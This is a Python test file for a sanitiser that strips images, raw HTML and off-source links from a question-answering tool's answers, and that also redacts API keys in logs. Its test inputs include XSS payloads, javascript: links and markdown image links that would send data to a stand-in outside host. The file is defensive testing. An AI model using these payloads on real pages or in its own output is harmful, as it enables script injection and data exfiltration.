"""Answer text is safe to show: no live images, no raw HTML, links only to the answer's sources.

Checked by rendering the neutralised text with a real CommonMark renderer (markdown-it, raw HTML
allowed, as a careless consumer would) and looking at the HTML it produces.
"""

from __future__ import annotations

import logging
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hwqa.answer.answer import Answer
from hwqa.answer.safety import RedactingFilter, install_log_redaction, neutralise, redact
from hwqa.notes.spans import clean_markdown

ALLOWED = ["https://example.com/tpu", "http://docs.example.org/a"]
HOSTS = {"example.com", "docs.example.org"}
RENDER = MarkdownIt("commonmark", {"html": True})
SAFE_TAGS = {
    "p",
    "a",
    "em",
    "strong",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "hr",
    "br",
}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def rendered_tags(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(RENDER.render(markdown))
    return parser.tags


CHECKED = {"texts": 0, "links kept": 0}


def assert_inert(out: str, hosts: set[str] | None = HOSTS) -> None:
    """What a user would see: no image, no HTML of the text's own, links only to allowed hosts
    (``hosts=None``: a cited passage, whose links may go to any http(s) host with a plain name)."""
    CHECKED["texts"] += 1
    for tag, attrs in rendered_tags(out):
        assert tag in SAFE_TAGS, f"raw <{tag}> survived: {out!r}"
        assert not any(k.startswith("on") or k in ("style", "src") for k in attrs), out
        if tag == "a":
            CHECKED["links kept"] += 1
            href = attrs.get("href") or ""
            host = urlsplit(href).hostname
            assert urlsplit(href).scheme in ("http", "https") and host and (hosts is None or host in hosts), (href, out)
    assert "![" not in out
    assert not re.search(r"<\s*[a-zA-Z/!?]", out), out
    # bare addresses a GFM renderer would auto-link: only to allowed hosts
    for url in re.findall(r"(?i)(?:https?|ftp)://[^\s<>\"'`()\[\]]+|www\.[^\s<>\"'`()\[\]]+", out):
        host = urlsplit(url if "://" in url else "http://" + url).hostname
        assert (hosts is None and url.lower().startswith(("http://", "https://", "www."))) or host in (hosts or ()), (url, out)


FOUND = [  # what the probe found, and the classic forms
    "[![a](x.png)](http://outside/y)",
    "<img src=x onerror=alert(1)>",
    "see ![x](http://outside/?q=secret) now",
    "![a][r]\n\n[r]: http://outside/x.png",
    "> [r]: http://outside/\n\n[t][r]",
    "[js](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [v](JaVaScRiPt:alert(1))",
    "[a](javascript:a((1)))",
    "<script>fetch('http://outside/')</script><style>*{}</style><iframe src=http://outside/></iframe>",
    "<svg onload=alert(1)><circle/></svg><form action=http://outside/><input></form>",
    "<<img src=x>img src=y>",
    '<img src="x" alt=">" onerror=alert(1)>',
    "<http://outside/x> <https://example.com/z> <javascript:alert(1)>",
    "go to https://outside.example/x. or www.outside.example/path",
    "![![a](http://outside/1)](http://outside/2)",
    "[[a](http://outside/1)](https://example.com/ok)",
    "<!-- hidden --> text <!-- open <img src=x>",
    "<a href=http://outside/>click</a> <A HREF='javascript:x'>x</A>",
    "[x](<http://outside/a b>) [y](http://outside/ 'title')",
    "![x](https://example.com/tpu.png) and [ok](https://example.com/page)",
    "[a](http://example.com\\@outside/) [b](http://example.com.outside/) [c](http://outside#example.com)",
    "x](http://outside/) and ![a] (http://outside/)",
]


@pytest.mark.parametrize("text", FOUND)
def test_hostile_markdown_is_inert(text: str) -> None:
    assert_inert(neutralise(text, ALLOWED))


def test_found_cases_read_as_expected() -> None:
    assert neutralise("[![a](x.png)](http://outside/y)", ALLOWED) == "(image: a) (http[:]//outside/y)"
    assert neutralise("<img src=x onerror=alert(1)>hi", ALLOWED) == "hi"
    assert neutralise("see ![x](http://outside/?q=1) now", ALLOWED) == "see (image: x) now"
    assert neutralise("[js](javascript:alert(1))", ALLOWED) == "js"
    assert neutralise("[bad](http://evil.com/a)", ALLOWED) == "bad (http[:]//evil[.]com/a)"
    # links to the sources and an image there stay usable (as a link)
    assert neutralise("[ok](https://example.com/p)", ALLOWED) == "[ok](https://example.com/p)"
    assert neutralise("![chip](https://example.com/c.png)", ALLOWED) == "[image: chip](https://example.com/c.png)"


def test_ordinary_answers_are_unchanged() -> None:
    text = (
        "A TPU v3-8 costs **$8.00/h** [1][2]; a P100 costs < $2 per hour [3].\n\n"
        "| hardware | usd_per_hour |\n|---|---|\n| P100 | 1.46 |\n\n- cheap <= fast\n- `code` stays"
    )
    assert neutralise(text, ALLOWED) == text


def test_old_single_pass_cleanup_no_longer_makes_an_image() -> None:
    assert "![" not in clean_markdown("[![a](x.png)](http://outside/y) is here")


MARKUP = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "(",
        ")",
        "](",
        "<",
        ">",
        "<img src=x>",
        "<iframe>",
        "</",
        "<!--",
        "-->",
        "javascript:",
        "data:",
        "http://outside/",
        "https://example.com/",
        "www.outside.example",
        "\n",
        "\n\n",
        "[r]: ",
        " ",
        "'",
        '"',
        "<svg",
        "onerror=",
        "\\",
        "`",
        "x.png",
        "<http://outside/>",
        ">",
        "&lt;",
        "\x00",
        "a",
    ]
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(MARKUP, max_size=30).map("".join))
@example("https://example.com/<https://example.com/>http://outside/")  # an outside address glued to a kept link
@example("[r]: \n\n[r]: \n[")  # a reference definition whose destination is on the next line
def test_any_mix_of_markup_is_inert(text: str) -> None:
    out = neutralise(text, ALLOWED)
    assert_inert(out)
    assert neutralise(out, ALLOWED) == out  # a fixed point: showing it twice changes nothing


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(MARKUP, max_size=30).map("".join))
@example("[![a](x.png)](http://outside/y) <img src=x onerror=alert(1)> [js](javascript:alert(1)) ![p](http://outside/p.png)")
def test_a_cited_passage_keeps_its_links_and_nothing_else(text: str) -> None:
    out = neutralise(text, ALLOWED, open_links=True)
    assert_inert(out, hosts=None)
    assert neutralise(out, ALLOWED, open_links=True) == out


def test_a_cited_passage_links_anywhere_but_loads_nothing() -> None:
    out = neutralise(
        "See [the XLA repo](https://github.com/pytorch/xla) and ![d](http://outside.example/d.png).", open_links=True
    )
    assert out == "See [the XLA repo](https://github.com/pytorch/xla) and [image: d](http://outside.example/d.png)."
    assert neutralise("https://github.com/pytorch/xla", open_links=True) == "https://github.com/pytorch/xla"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_inert(text: str) -> None:
    assert_inert(neutralise(text, ALLOWED))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=st.sampled_from(list("![]()<>:/\\`\"' \nahjtpsw.x=-#&;*_~@")), max_size=120))
def test_any_string_of_markup_characters_is_inert(text: str) -> None:
    assert_inert(neutralise(text, ALLOWED))


def test_redact_keys_in_logs(caplog: pytest.LogCaptureFixture) -> None:
    key = "sk-" + "A1b2C3d4" * 4
    aws = "AKIA" + "ABCDEFGHIJKLMNOP"
    assert key not in redact(f"key {key} and {aws}") and aws not in redact(aws)
    install_log_redaction(["hunter2-secret"])
    log = logging.getLogger("hwqa.fetch")
    with caplog.at_level(logging.INFO, logger="hwqa"):
        log.warning("page said %s and %s and hunter2-secret", key, aws)
    assert caplog.records and all(key not in r.getMessage() and aws not in r.getMessage() for r in caplog.records)
    assert "hunter2-secret" not in caplog.text
    assert isinstance(logging.getLogger("hwqa").filters[0], RedactingFilter)


@pytest.mark.parametrize(
    "text",
    [
        " " * 50 + "x",
        "> - " * 5000 + "x",
        "[" * 30000,
        "<a " * 10000,
        "<script " * 5000,
        "![a](" * 10000,
        "<!-- " * 5000,
        "http://" * 10000,
        "[a](b" + "(c)" * 10000,
        "<http:" * 10000,
    ],
    ids=lambda t: repr(t[:6]),
)
def test_long_hostile_inputs_stay_cheap_and_inert(text: str) -> None:
    # These once took exponential or quadratic time (a suite that hangs here has found a regression).
    assert_inert(neutralise(text, ALLOWED))


HOSTILE_TITLE_NOTE = """
---
title: "GPU notes ![t](http://outside.example/title.png) <img src=x onerror=alert(1)>"
tags: [gpu]
---
# Prices [![a](http://outside.example/x.png)](http://outside.example/y) <iframe src=http://outside.example/></iframe>

A Tesla P100 costs $1.46 per hour on demand [![b](http://outside.example/p.png)](http://outside.example/q).
See <img src="http://outside.example/i.png"> and [the offer](http://outside.example/offer) for details.
"""


@pytest.mark.parametrize("min_score", [0.0, 0.99], ids=["answered", "not-covered"])
def test_builtin_answers_and_their_sources_are_clean(tmp_path: Any, min_score: float) -> None:
    from hwqa.engine import Engine, build_index
    from hwqa.settings import load_settings

    from .conftest import write_note

    notes = tmp_path / "notes"
    write_note(notes, "gpu.md", HOSTILE_TITLE_NOTE)
    settings = load_settings(
        {"notes": notes, "index": tmp_path / "index", "embed_backend": "hash", "fetch_links": False, "min_score": min_score},
        env={},
        cwd=tmp_path,
    )
    build_index(settings)
    items = list(Engine.load(settings).stream("How much does a Tesla P100 cost per hour?"))
    answer = items[-1]
    assert isinstance(answer, Answer) and answer.citations
    texts = [i for i in items if isinstance(i, str)] + [answer.text]
    for citation in answer.citations:
        texts += [citation.title, citation.heading, citation.label()]
        assert_inert(citation.text, hosts=None)  # the passage quoted: its own links stay, as links
    for text in texts:
        assert_inert(text)
        assert "outside.example/" not in text.replace("outside[.]example/", "")
    assert "(image: t)" in answer.citations[0].title


PRICE_NOTE_WITH_SOURCES = """
---
title: Cloud prices
tags: [prices]
---
# Price table

| hardware | provider | type | usd_per_hour | speed | source |
|---|---|---|---|---|---|
| P100 | GCP | gpu | 1.46 | 0.5 | https://cloud.google.com/gpu-pricing |
| TPU v3 | GCP | tpu | 8.00 | 8.0 | https://cloud.google.com/tpu/pricing |

Compare with [a reseller](http://reseller.example/deal) ![banner](http://reseller.example/b.png).
"""


def test_price_answers_keep_their_table_sources_live(tmp_path: Any) -> None:
    from hwqa.engine import Engine

    from .conftest import built_hash_index, write_note

    write_note(tmp_path / "notes", "prices.md", PRICE_NOTE_WITH_SOURCES)
    answer = Engine.load(built_hash_index(tmp_path)).ask("TPU or GPU for my budget of $500?")
    assert answer.tool_calls, "answered by the price calculator"
    joined = answer.text + "\n".join(c.text for c in answer.citations)
    assert "source https://cloud.google.com/tpu/pricing" in joined, "the price table's own sources stay usable"
    assert "http://reseller.example" not in answer.text and "![" not in joined


def test_zz_print_figures(capsys: pytest.CaptureFixture[str]) -> None:
    """Runs last in this file: how many neutralised texts were rendered and checked above."""
    with capsys.disabled():
        print(
            f"\nsafety: {CHECKED['texts']} neutralised texts rendered with CommonMark and checked: 0 images, "
            f"0 raw tags, 0 links to other hosts ({CHECKED['links kept']} links to the sources' hosts kept)"
        )
